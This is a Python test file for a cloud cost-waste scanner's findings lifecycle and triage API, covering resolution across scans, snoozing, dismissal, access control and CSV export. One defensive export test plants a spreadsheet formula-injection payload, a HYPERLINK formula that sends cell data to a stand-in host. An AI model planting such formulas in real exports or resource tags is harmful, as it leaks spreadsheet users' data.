"""Findings: their lifecycle across scans, and the findings API people use to triage them.

Lifecycle tests scan a moto server on loopback in-process; the API tests share one scanned
account (two regions, eight findings) and each changes findings of its own.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import uuid
from collections.abc import AsyncIterator
from decimal import Decimal
from typing import Any

import httpx
import pytest

from tests.analysis.helpers import seed_scans
from tests.conftest import TenantFixture
from tests.fixtures.aws import (
    ACCOUNT_ID,
    HEALTHY_REGION,
    OTHER_REGION,
    aws_client,
    aws_runtime,
    delete_volume,
    elastic_ip,
    empty_aws,
    register_connection,
    unattached_volume,
)
from tests.fixtures.http import api_key, assert_problem
from tests.scanning.distinct_costs import distinct_monthly_usd, gross_monthly_usd
from tests.scanning.helpers import create_tenant, scan_once, tenant_findings
from valdrix.kit.db import unit_of_work
from valdrix.kit.orm import utcnow
from valdrix.runtime import Runtime
from valdrix.scanning import listing
from valdrix.scanning.models import Finding
from valdrix.scanning.schemas import FindingFilter
from valdrix.simulator.aws_server import SimulatedAws
from valdrix.tenancy.service import system_principal

FINDINGS = "/api/v1/findings"


async def api_findings(
    client: httpx.AsyncClient, auth: dict[str, str], **params: Any
) -> list[dict[str, Any]]:
    response = await client.get(FINDINGS, params={"limit": 500, **params}, headers=auth)
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()
    return found


async def history(
    client: httpx.AsyncClient, auth: dict[str, str], finding_id: Any
) -> list[tuple[str | None, str, str, str | None]]:
    response = await client.get(f"{FINDINGS}/{finding_id}/history", headers=auth)
    assert response.status_code == 200, response.text
    return [(h["from_status"], h["to_status"], h["actor"], h["note"]) for h in response.json()]


def in_future(**delta: float) -> str:
    return (utcnow() + dt.timedelta(**delta)).isoformat()


# --- lifecycle across scans ------------------------------------------------------------------


async def test_finding_of_a_deleted_resource_is_resolved_by_the_next_complete_scan(
    runtime: Runtime, client: httpx.AsyncClient, make_tenant: Any, aws_endpoint: str
) -> None:
    tenant: TenantFixture = await make_tenant()
    scanner = aws_runtime(runtime, aws_endpoint)
    deleted = unattached_volume(aws_endpoint, HEALTHY_REGION)
    kept = unattached_volume(aws_endpoint, HEALTHY_REGION)
    connection = await register_connection(scanner, tenant.tenant_id, regions=[HEALTHY_REGION])
    first_scan, _ = await scan_once(scanner, tenant.tenant_id, connection.id)
    before = {f["resource_id"]: f for f in await api_findings(client, tenant.auth)}

    delete_volume(aws_endpoint, HEALTHY_REGION, deleted)
    second_scan, status = await scan_once(scanner, tenant.tenant_id, connection.id)

    assert status == "completed"
    after = {f["resource_id"]: f for f in await api_findings(client, tenant.auth)}
    assert after[deleted]["status"] == "resolved"
    assert after[deleted]["resolved_at"] is not None
    assert await history(client, tenant.auth, after[deleted]["id"]) == [
        (None, "open", "scanner", "first seen"),
        ("open", "resolved", "scanner", "not seen in a complete scan"),
    ]
    # The finding still seen is the same finding: same id, first seen once, seen again now.
    assert after[kept]["status"] == "open"
    assert after[kept]["id"] == before[kept]["id"]
    assert after[kept]["first_seen_at"] == before[kept]["first_seen_at"]
    assert after[kept]["last_seen_at"] > before[kept]["last_seen_at"]
    assert await history(client, tenant.auth, after[kept]["id"]) == [
        (None, "open", "scanner", "first seen")
    ]
    assert first_scan != second_scan


async def test_resolved_finding_seen_again_reopens_under_the_same_id(
    runtime: Runtime, client: httpx.AsyncClient, make_tenant: Any, aws_endpoint: str
) -> None:
    """Someone attaches the volume (no longer waste), then detaches it again."""
    tenant: TenantFixture = await make_tenant()
    scanner = aws_runtime(runtime, aws_endpoint)
    ec2 = aws_client(aws_endpoint, "ec2", HEALTHY_REGION)
    volume_id = unattached_volume(aws_endpoint, HEALTHY_REGION)
    instance = ec2.run_instances(
        ImageId="ami-00000001",
        MinCount=1,
        MaxCount=1,
        InstanceType="t3.micro",
        Placement={"AvailabilityZone": f"{HEALTHY_REGION}a"},
    )["Instances"][0]
    connection = await register_connection(scanner, tenant.tenant_id, regions=[HEALTHY_REGION])

    async def volume_finding() -> dict[str, Any]:
        [finding] = await api_findings(
            client, tenant.auth, detector="aws.ebs-unattached", connection_id=str(connection.id)
        )
        assert finding["resource_id"] == volume_id
        return finding

    await scan_once(scanner, tenant.tenant_id, connection.id)
    first = await volume_finding()
    ec2.attach_volume(VolumeId=volume_id, InstanceId=instance["InstanceId"], Device="/dev/sdf")
    await scan_once(scanner, tenant.tenant_id, connection.id)
    assert (await volume_finding())["status"] == "resolved"
    ec2.detach_volume(VolumeId=volume_id, InstanceId=instance["InstanceId"])
    _, status = await scan_once(scanner, tenant.tenant_id, connection.id)

    assert status == "completed"
    reopened = await volume_finding()
    assert reopened["status"] == "open"
    assert reopened["resolved_at"] is None
    assert reopened["id"] == first["id"]
    assert reopened["first_seen_at"] == first["first_seen_at"]
    assert await history(client, tenant.auth, first["id"]) == [
        (None, "open", "scanner", "first seen"),
        ("open", "resolved", "scanner", "not seen in a complete scan"),
        ("resolved", "open", "scanner", "seen again"),
    ]


async def test_units_that_timed_out_or_were_denied_do_not_resolve_their_findings(
    runtime: Runtime, make_tenant: Any, aws_endpoint: str, fault_proxy: Any
) -> None:
    """Not seeing a resource proves nothing when the region or the permission failed."""
    tenant: TenantFixture = await make_tenant()
    healthy_volume = unattached_volume(aws_endpoint, HEALTHY_REGION)
    hung_volume = unattached_volume(aws_endpoint, OTHER_REGION)
    address = elastic_ip(aws_endpoint, HEALTHY_REGION)
    connection = await register_connection(
        runtime, tenant.tenant_id, regions=[HEALTHY_REGION, OTHER_REGION]
    )
    await scan_once(aws_runtime(runtime, aws_endpoint), tenant.tenant_id, connection.id)
    assert {f.status for f in await tenant_findings(runtime, tenant.tenant_id)} == {"open"}

    delete_volume(aws_endpoint, HEALTHY_REGION, healthy_volume)
    delete_volume(aws_endpoint, OTHER_REGION, hung_volume)
    aws_client(aws_endpoint, "ec2", HEALTHY_REGION).release_address(AllocationId=address)
    proxy = fault_proxy(hang_regions={OTHER_REGION}, deny_operations={"DescribeAddresses"})
    # 8 s: long enough for a healthy unit on a loaded machine, short for the hung region.
    troubled = aws_runtime(runtime, proxy.url, region_budget=8.0)
    _, status = await scan_once(troubled, tenant.tenant_id, connection.id)

    assert status == "partial"
    statuses = {f.resource_id: f.status for f in await tenant_findings(runtime, tenant.tenant_id)}
    assert statuses == {
        healthy_volume: "resolved",  # its unit completed: it is really gone
        hung_volume: "open",  # its region timed out
        address: "open",  # its detector was denied
    }


# --- the findings API ------------------------------------------------------------------------


@pytest.fixture(scope="module")
async def triage(runtime: Runtime, simulated_aws: SimulatedAws) -> AsyncIterator[TenantFixture]:
    """A tenant whose account was scanned once: 8 open findings over 2 regions, 3 detectors."""
    endpoint = empty_aws(simulated_aws)
    for size_gb in (10, 100, 500):
        unattached_volume(endpoint, HEALTHY_REGION, size_gb=size_gb)
    aws_client(endpoint, "ec2", HEALTHY_REGION).create_volume(
        AvailabilityZone=f"{HEALTHY_REGION}a", Size=50, VolumeType="gp2"
    )
    elastic_ip(endpoint, HEALTHY_REGION)
    elastic_ip(endpoint, OTHER_REGION)
    unattached_volume(endpoint, OTHER_REGION, size_gb=20)
    tenant = await create_tenant(runtime)
    scanner = aws_runtime(runtime, endpoint)
    connection = await register_connection(
        scanner, tenant.tenant_id, regions=[HEALTHY_REGION, OTHER_REGION]
    )
    _, status = await scan_once(scanner, tenant.tenant_id, connection.id)
    assert status == "completed"
    assert len(await tenant_findings(runtime, tenant.tenant_id)) == 8
    yield tenant


async def one_open_finding(
    client: httpx.AsyncClient, tenant: TenantFixture, detector: str = "aws.ebs-unattached"
) -> dict[str, Any]:
    """An open finding no other test has touched (each test changes its own)."""
    for finding in await api_findings(client, tenant.auth, status="open", detector=detector):
        if len(await history(client, tenant.auth, finding["id"])) == 1:
            return finding
    raise AssertionError(f"no untouched open {detector} finding left")


async def test_findings_filter_by_status_detector_region_and_account(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    everything = await api_findings(client, triage.auth)
    assert len(everything) == 8

    def ids(findings: list[dict[str, Any]]) -> set[str]:
        return {f["id"] for f in findings}

    for detector, count in [
        ("aws.ebs-unattached", 5),
        ("aws.ebs-gp2-to-gp3", 1),
        ("aws.eip-unassociated", 2),
    ]:
        found = await api_findings(client, triage.auth, detector=detector)
        assert len(found) == count
        assert {f["detector"] for f in found} == {detector}
    in_other_region = await api_findings(client, triage.auth, region=OTHER_REGION)
    assert sorted(f["detector"] for f in in_other_region) == [
        "aws.ebs-unattached",
        "aws.eip-unassociated",
    ]
    assert ids(await api_findings(client, triage.auth, account_id=ACCOUNT_ID)) == ids(everything)
    assert await api_findings(client, triage.auth, account_id="999999999999") == []
    by_status = {
        status: await api_findings(client, triage.auth, status=status)
        for status in ("open", "snoozed", "dismissed", "resolved")
    }
    for status, found in by_status.items():
        assert {f["status"] for f in found} <= {status}
    assert set().union(*(ids(found) for found in by_status.values())) == ids(everything)
    both = await api_findings(
        client, triage.auth, detector="aws.eip-unassociated", region=HEALTHY_REGION
    )
    assert [(f["detector"], f["region"]) for f in both] == [
        ("aws.eip-unassociated", HEALTHY_REGION)
    ]
    response = await client.get(FINDINGS, params={"status": "gone"}, headers=triage.auth)
    assert "status" in assert_problem(response, 422)["detail"]


async def test_findings_sort_by_monthly_cost_either_way_and_page_with_offset_and_limit(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    descending = await api_findings(client, triage.auth, sort="monthly_cost_usd", order="desc")
    ascending = await api_findings(client, triage.auth, sort="monthly_cost_usd", order="asc")
    costs = [Decimal(f["monthly_cost_usd"]) for f in descending]
    assert costs == sorted(costs, reverse=True)
    assert costs[0] == Decimal("40.00")  # the 500 GiB gp3 volume at $0.08 per GB-month
    assert [Decimal(f["monthly_cost_usd"]) for f in ascending] == sorted(costs)

    pages = []
    for offset in (0, 3, 6):
        response = await client.get(
            FINDINGS,
            params={"sort": "monthly_cost_usd", "order": "desc", "offset": offset, "limit": 3},
            headers=triage.auth,
        )
        assert response.status_code == 200, response.text
        pages.append([f["id"] for f in response.json()])
    assert [len(page) for page in pages] == [3, 3, 2]
    assert [i for page in pages for i in page] == [f["id"] for f in descending]
    response = await client.get(FINDINGS, params={"limit": 0}, headers=triage.auth)
    assert "limit" in assert_problem(response, 422)["detail"]


async def test_snoozing_needs_a_future_date_and_a_note(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    finding = await one_open_finding(client, triage)
    url = f"{FINDINGS}/{finding['id']}"

    for body, field in [
        ({"status": "snoozed", "note": "waiting on the team"}, "snoozed_until"),
        (
            {"status": "snoozed", "snoozed_until": in_future(days=-1), "note": "too late"},
            "snoozed_until",
        ),
        ({"status": "snoozed", "snoozed_until": in_future(days=7)}, "note"),
    ]:
        response = await client.patch(url, json=body, headers=triage.auth)
        assert assert_problem(response, 422)["detail"].startswith(f"{field}:")

    until = in_future(days=7)
    response = await client.patch(
        url,
        json={"status": "snoozed", "snoozed_until": until, "note": "owner on holiday"},
        headers=triage.auth,
    )
    assert response.status_code == 200, response.text
    snoozed = response.json()
    assert snoozed["status"] == "snoozed"
    assert dt.datetime.fromisoformat(snoozed["snoozed_until"]) == dt.datetime.fromisoformat(until)
    assert snoozed["status_note"] == "owner on holiday"
    assert finding["id"] in {
        f["id"] for f in await api_findings(client, triage.auth, status="snoozed")
    }
    assert finding["id"] not in {
        f["id"] for f in await api_findings(client, triage.auth, status="open")
    }


async def test_a_snooze_date_without_a_zone_is_read_as_utc(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    finding = await one_open_finding(client, triage)
    naive = (utcnow() + dt.timedelta(days=3)).replace(tzinfo=None, microsecond=0)

    response = await client.patch(
        f"{FINDINGS}/{finding['id']}",
        json={"status": "snoozed", "snoozed_until": naive.isoformat(), "note": "after the sale"},
        headers=triage.auth,
    )

    assert response.status_code == 200, response.text
    until = dt.datetime.fromisoformat(response.json()["snoozed_until"])
    assert until == naive.replace(tzinfo=dt.UTC)


async def test_findings_are_dismissed_and_reopened_by_hand_but_never_resolved_by_hand(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    finding = await one_open_finding(client, triage)
    url = f"{FINDINGS}/{finding['id']}"

    response = await client.patch(
        url, json={"status": "dismissed", "note": "a deliberate spare"}, headers=triage.auth
    )
    assert response.status_code == 200, response.text
    assert (response.json()["status"], response.json()["status_note"]) == (
        "dismissed",
        "a deliberate spare",
    )
    response = await client.patch(url, json={"status": "resolved"}, headers=triage.auth)
    assert "resolved by scans" in assert_problem(response, 422)["detail"]
    response = await client.patch(url, json={"status": "open"}, headers=triage.auth)
    assert response.status_code == 200, response.text
    assert response.json()["status"] == "open"

    actor = next(
        h["actor"]
        for h in (await client.get(f"{url}/history", headers=triage.auth)).json()
        if h["to_status"] == "dismissed"
    )
    assert actor.startswith("api_key:")
    assert await history(client, triage.auth, finding["id"]) == [
        (None, "open", "scanner", "first seen"),
        ("open", "dismissed", actor, "a deliberate spare"),
        ("dismissed", "open", actor, None),
    ]


async def test_a_snooze_that_has_expired_shows_the_finding_open_again(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    finding = await one_open_finding(client, triage, detector="aws.eip-unassociated")
    response = await client.patch(
        f"{FINDINGS}/{finding['id']}",
        json={"status": "snoozed", "snoozed_until": in_future(seconds=1), "note": "one second"},
        headers=triage.auth,
    )
    assert response.status_code == 200, response.text
    assert response.json()["status"] == "snoozed"

    await asyncio.sleep(1.2)

    # Whichever the reader asks first: the finding itself, the summary, or the list.
    response = await client.get(f"{FINDINGS}/{finding['id']}", headers=triage.auth)
    assert (response.json()["status"], response.json()["snoozed_until"]) == ("open", None)
    summary = (await client.get(f"{FINDINGS}/summary", headers=triage.auth)).json()
    open_findings = await api_findings(client, triage.auth, status="open")
    assert finding["id"] in {f["id"] for f in open_findings}
    assert summary["open_findings"] == len(open_findings)
    changes = await history(client, triage.auth, finding["id"])
    assert [change[:2] for change in changes] == [
        (None, "open"),
        ("open", "snoozed"),
        ("snoozed", "open"),
    ]
    assert changes[-1][2:] == ("system", "the snooze ended")


async def test_waste_summary_totals_equal_the_open_findings_by_detector_and_provider(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    """By detector, each finding's whole figure; in total, each dollar once
    (``test_waste_totals.py`` has the findings that overlap)."""
    # Not everything is open: a dismissed finding's dollars are not waste anyone is chasing.
    finding = await one_open_finding(client, triage)
    response = await client.patch(
        f"{FINDINGS}/{finding['id']}",
        json={"status": "dismissed", "note": "kept on purpose"},
        headers=triage.auth,
    )
    assert response.status_code == 200, response.text

    response = await client.get(f"{FINDINGS}/summary", headers=triage.auth)
    assert response.status_code == 200, response.text
    summary = response.json()
    open_findings = await api_findings(client, triage.auth, status="open")
    expected: dict[str, Decimal] = {}
    for f in open_findings:
        expected[f["detector"]] = expected.get(f["detector"], Decimal(0)) + Decimal(
            f["monthly_cost_usd"]
        )
    assert {row["detector"]: Decimal(row["monthly_usd"]) for row in summary["by_detector"]} == (
        expected
    )
    assert {row["detector"]: row["open_findings"] for row in summary["by_detector"]} == {
        d: sum(1 for f in open_findings if f["detector"] == d) for d in expected
    }
    assert {row["provider"] for row in summary["by_detector"]} == {"aws"}
    gross, total = gross_monthly_usd(open_findings), distinct_monthly_usd(open_findings)
    assert Decimal(summary["gross_monthly_usd"]) == sum(expected.values(), Decimal(0)) == gross
    assert Decimal(summary["total_monthly_usd"]) == total
    assert Decimal(summary["overlap_monthly_usd"]) == gross - total
    assert {p: Decimal(v) for p, v in summary["by_provider"].items()} == {"aws": total}
    assert summary["open_findings"] == len(open_findings) < 8


async def test_viewers_read_findings_but_cannot_change_them(
    client: httpx.AsyncClient, triage: TenantFixture
) -> None:
    viewer = await api_key(client, triage.auth, "viewer")
    finding = await one_open_finding(client, triage)
    url = f"{FINDINGS}/{finding['id']}"

    assert len(await api_findings(client, viewer)) == 8
    for path in (url, f"{url}/history", f"{FINDINGS}/summary"):
        response = await client.get(path, headers=viewer)
        assert response.status_code == 200, (path, response.text)
    response = await client.patch(
        url, json={"status": "dismissed", "note": "not mine to dismiss"}, headers=viewer
    )
    assert_problem(response, 403)
    assert (await client.get(url, headers=triage.auth)).json()["status"] == "open"


async def test_another_tenants_finding_is_not_found(
    client: httpx.AsyncClient, triage: TenantFixture, make_tenant: Any
) -> None:
    outsider: TenantFixture = await make_tenant()
    finding = await one_open_finding(client, triage)
    url = f"{FINDINGS}/{finding['id']}"

    for response in [
        await client.get(url, headers=outsider.auth),
        await client.get(f"{url}/history", headers=outsider.auth),
        await client.patch(
            url, json={"status": "dismissed", "note": "not yours"}, headers=outsider.auth
        ),
        await client.get(f"{FINDINGS}/{uuid.uuid4()}", headers=triage.auth),
    ]:
        assert_problem(response, 404)
    assert await api_findings(client, outsider.auth) == []
    summary = (await client.get(f"{FINDINGS}/summary", headers=outsider.auth)).json()
    assert (summary["open_findings"], summary["by_detector"]) == (0, [])
    assert (await client.get(url, headers=triage.auth)).json()["status"] == "open"


async def test_every_finding_of_a_filter_is_counted_and_changed_at_once_all_or_none(
    client: httpx.AsyncClient, triage: TenantFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    addresses = {"detector": "aws.eip-unassociated"}
    counted = await client.get(f"{FINDINGS}/count", params=addresses, headers=triage.auth)
    assert counted.json() == {"count": len(await api_findings(client, triage.auth, **addresses))}
    assert counted.json()["count"] == 2

    bulk = f"{FINDINGS}/status"
    no_note = {"status": "snoozed", "snoozed_until": in_future(days=3), "filter": addresses}
    response = await client.post(bulk, json=no_note, headers=triage.auth)
    assert assert_problem(response, 422)["detail"].startswith("note:")
    viewer = await api_key(client, triage.auth, "viewer")
    dismiss = {"status": "dismissed", "note": "kept for the DNS cut-over", "filter": addresses}
    assert_problem(await client.post(bulk, json=dismiss, headers=viewer), 403)
    # Above the bound (lowered here to 1: the demo-sized account holds two), nothing changes.
    monkeypatch.setattr(listing, "BULK_LIMIT", 1)
    response = await client.post(bulk, json=dismiss, headers=triage.auth)
    assert "more than 1 findings match" in assert_problem(response, 422)["detail"]
    assert {f["status"] for f in await api_findings(client, triage.auth, **addresses)} == {"open"}
    monkeypatch.undo()

    response = await client.post(bulk, json=dismiss, headers=triage.auth)
    assert response.json() == {"changed": 2}, response.text
    changed = await api_findings(client, triage.auth, **addresses)
    assert {(f["status"], f["status_note"]) for f in changed} == {
        ("dismissed", "kept for the DNS cut-over")
    }
    reopen = {"status": "open", "filter": {**addresses, "status": "dismissed"}}
    response = await client.post(bulk, json=reopen, headers=triage.auth)
    assert response.json() == {"changed": 2}, response.text
    assert {f["status"] for f in await api_findings(client, triage.auth, **addresses)} == {"open"}


async def test_the_csv_export_keeps_a_name_tag_that_is_a_formula_as_text(
    runtime: Runtime, client: httpx.AsyncClient, make_tenant: Any, aws_endpoint: str
) -> None:
    """Whoever may tag a resource in the account chooses its name: in a spreadsheet, a name
    that begins with ``=`` would run as a formula when the export is opened."""
    tenant: TenantFixture = await make_tenant()
    formula = '=HYPERLINK("https://example.invalid/?"&A2,"open")'
    named = unattached_volume(aws_endpoint, HEALTHY_REGION, tags={"Name": formula})
    plain = unattached_volume(aws_endpoint, HEALTHY_REGION, tags={"Name": "db-scratch"})
    scanner = aws_runtime(runtime, aws_endpoint)
    connection = await register_connection(scanner, tenant.tenant_id, regions=[HEALTHY_REGION])
    await scan_once(scanner, tenant.tenant_id, connection.id)

    response = await client.get(
        f"{FINDINGS}/export", params={"detector": "aws.ebs-unattached"}, headers=tenant.auth
    )

    assert response.status_code == 200, response.text
    rows = {row["resource_id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert rows[named]["resource_name"] == "'" + formula
    assert rows[plain]["resource_name"] == "db-scratch"
    assert Decimal(rows[named]["monthly_cost_usd"]) > 0


async def test_an_export_a_scan_reprices_mid_way_holds_every_finding_once(
    runtime: Runtime, make_tenant: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export reads a batch at a time, most expensive first. A scan committing between two
    batches moves the cheapest finding to the top: the export still lists each finding once,
    as the findings were when it started."""
    tenant: TenantFixture = await make_tenant()
    [scan] = await seed_scans(runtime, tenant.tenant_id, 1, findings_per_scan=12)
    seeded = scan.finding_ids
    monkeypatch.setattr(listing, "EXPORT_BATCH", 5)
    chosen = FindingFilter.model_validate({"status": "open"})
    lines = aiter(listing.export_csv(runtime, system_principal(tenant.tenant_id), chosen))
    exported = [await anext(lines), await anext(lines)]  # the header, then the first batch
    async with unit_of_work(runtime.sessions, tenant.tenant_id) as session:
        cheapest = await session.get(Finding, seeded[0])
        assert cheapest is not None and cheapest.monthly_cost_usd == 8
        cheapest.monthly_cost_usd = Decimal(1000)
    exported += [chunk async for chunk in lines]

    rows = list(csv.DictReader(io.StringIO("".join(exported))))
    assert sorted(row["id"] for row in rows) == sorted(map(str, seeded))
    assert [Decimal(row["monthly_cost_usd"]) for row in rows] == [8 * n for n in range(12, 0, -1)]
